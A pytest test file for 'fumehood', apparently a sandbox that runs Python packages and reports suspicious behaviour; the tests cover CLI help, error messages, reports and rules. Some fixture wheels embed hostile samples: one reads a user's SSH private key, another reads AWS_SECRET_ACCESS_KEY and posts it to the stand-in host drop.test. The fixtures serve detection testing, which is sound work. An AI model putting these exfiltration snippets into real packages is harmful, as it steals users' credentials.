"""The command line teaches, and a user's mistake is one line with the next step, never a traceback."""

from __future__ import annotations

import json
import re
import shutil
from typing import TYPE_CHECKING

import pytest

from tests.images.pods import make_wheel

if TYPE_CHECKING:
    from pathlib import Path

    from tests.run.conftest import Fumehood

pytestmark = pytest.mark.pod


@pytest.mark.parametrize(
    "command",
    [
        (),
        ("run",),
        ("report",),
        ("events",),
        ("rules",),
        ("rules", "list"),
        ("rules", "check"),
        ("image",),
        ("image", "build"),
        ("completion",),
    ],
)
def test_every_command_has_help(fumehood: Fumehood, command: tuple[str, ...]) -> None:
    ran = fumehood(*command, "--help")
    assert ran.code == 0
    text = ran.out.decode()
    assert text.startswith("Usage: fumehood")
    assert len(text.splitlines()) > 5


@pytest.mark.parametrize(
    ("arguments", "teaches"),
    [
        (("run",), "Missing argument 'PACKAGE'"),
        (("run", "six"), "write pkg:pypi/six"),
        (("run", "pkg:npm/left-pad"), "not supported yet"),
        (("run", "pkg:pypi/six@not-a-version"), "not a version"),
        (("run", "./absent-1.0.tar.gz"), "absent-1.0.tar.gz"),
        (("run", "pkg:pypi/six", "--profile", "pipy"), "pypi"),
        (("run", "pkg:pypi/six", "--artefact", "egg"), "wheel"),
        (("report", "nowhere"), "nowhere"),
        (("events", "nowhere"), "nowhere"),
        (("rnu",), "No such command"),
        (("run", "pkg:pypi/six", "--fail-on", "always"), "suspicious"),
    ],
)
def test_a_mistake_is_one_line_with_what_to_do(fumehood: Fumehood, arguments: tuple[str, ...], teaches: str) -> None:
    ran = fumehood(*arguments)
    assert ran.code == 2
    assert ran.out == b""
    assert teaches in ran.err
    assert "Traceback" not in ran.err
    said = [line for line in ran.err.splitlines() if not line.startswith(("Usage:", "Try ")) and line.strip()]
    assert len([line for line in said if line.startswith(("fumehood: ", "Error: "))]) == 1, ran.err


def test_a_local_wheel_from_run_to_report_events_and_formats(fumehood: Fumehood, tmp_path: Path) -> None:
    wheel = make_wheel(tmp_path, "thing", {"thing/__init__.py": "open('/etc/hostname').read()\n"}, {"thing": "thing:f"})
    shutil.copy(wheel, tmp_path / "copy.whl")
    output = tmp_path / "report.json"
    ran = fumehood("run", wheel, "--format", "json", "--output", output)
    assert ran.code == 0, ran.err
    assert ran.out == b""
    assert "install: completed" in ran.err, "plain progress lines where there is no terminal"
    report = json.loads(output.read_bytes())
    assert report["schema"].startswith("fumehood.report/")
    assert report["package"]["purl"] == "pkg:pypi/thing@1.0"
    again = fumehood("report", fumehood.bundle(), "--format", "json")
    assert again.out == output.read_bytes()
    text = fumehood("report", fumehood.bundle())
    assert "CLEAN" in text.out.decode()
    assert b"\x1b" not in text.out, "no colours where there is no terminal"
    events = fumehood("events", fumehood.bundle(), "--phase", "import", "--kind", "file.read").out.decode().splitlines()
    assert any(
        re.fullmatch(r"import target \d+ file\.read path=/etc/hostname  # traces/import\.strace\.zst:\d+", line)
        for line in events
    )
    assert all(line.startswith("import ") and " file.read " in line for line in events)


def test_fail_on_decides_the_exit_code(fumehood: Fumehood, tmp_path: Path) -> None:
    body = "open('/home/martin/.ssh/id_ed25519').read()\n"
    wheel = make_wheel(tmp_path, "peek", {"peek.py": body})
    ran = fumehood.run(wheel)
    assert (ran.code, ran.report["verdict"]) == (1, "suspicious")
    bundle = fumehood.bundle()
    assert fumehood("report", bundle, "--fail-on", "malicious").code == 0
    assert fumehood("report", bundle, "--fail-on", "never").code == 0
    assert fumehood("report", bundle, "--fail-on", "suspicious").code == 1


def test_no_bait_value_stands_in_a_report(fumehood: Fumehood, tmp_path: Path) -> None:
    body = (
        "import os, subprocess, urllib.request\n"
        "secret = os.environ['AWS_SECRET_ACCESS_KEY']\n"
        "subprocess.run(['/bin/echo', secret])\n"
        "urllib.request.urlopen(urllib.request.Request('http://drop.test/' + secret, data=secret.encode()))\n"
    )
    ran = fumehood.run(make_wheel(tmp_path, "leak", {"leak.py": body}))
    assert ran.report["verdict"] == "malicious"
    bait = json.loads((fumehood.bundle() / "bait.json").read_bytes())
    assert len(bait) > 10
    assert [entry["name"] for entry in bait if entry["value"].encode() in ran.out] == []
    text = fumehood("report", fumehood.bundle()).out
    assert [entry["name"] for entry in bait if entry["value"].encode() in text] == []


def test_rules_are_listed_and_checked(fumehood: Fumehood, tmp_path: Path) -> None:
    listed = fumehood("rules", "list").out.decode().splitlines()
    assert len(listed) >= 15
    (tmp_path / "rules").mkdir()
    (tmp_path / "rules/broken.yml").write_text("title: x\n")
    checked = fumehood("rules", "check", tmp_path / "rules")
    assert checked.code == 2
    assert "broken.yml" in checked.err


@pytest.mark.parametrize("shell", ["bash", "zsh", "fish"])
def test_completion_scripts(fumehood: Fumehood, shell: str) -> None:
    ran = fumehood("completion", shell)
    assert ran.code == 0
    assert b"_FUMEHOOD_COMPLETE" in ran.out
    words = fumehood(
        environment={"_FUMEHOOD_COMPLETE": "bash_complete", "COMP_WORDS": "fumehood r", "COMP_CWORD": "1"},
    )
    assert {line.split(",")[1] for line in words.out.decode().splitlines()} == {"report", "rules", "run"}
